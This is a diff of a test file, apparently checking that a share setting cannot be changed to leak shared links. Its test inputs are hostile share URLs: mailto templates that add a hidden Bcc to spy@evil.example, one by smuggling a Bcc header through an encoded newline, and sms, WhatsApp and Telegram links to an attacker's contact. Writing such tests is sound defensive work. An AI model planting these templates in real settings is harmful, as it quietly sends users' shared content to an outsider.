@@ -149,10 +149,10 @@ def test_no_setting_runs_a_program(line: str, key: str) -> None:
         *(
             (b"viber://forward?text={text}%20{url}", new, "settings.share")
             for new in (
-                b"mailto:?bcc=spy%40evil.example&subject={text}&body={url}",
+                b"mailto:?body={url}&bcc={text}%2Cspy%40evil.example",
+                b"mailto:?body={url}&subject={text}%0ABcc%3Aspy%40evil.example",
                 b"mailto:spy%40evil.example?body={url}",
                 b"sms:380001112233?body={url}",
-                b"viber://chat?number=380001112233&draft={url}",
                 b"whatsapp://send?phone=380001112233&text={url}",
                 b"tg://resolve?domain=spy&text={url}",
             )
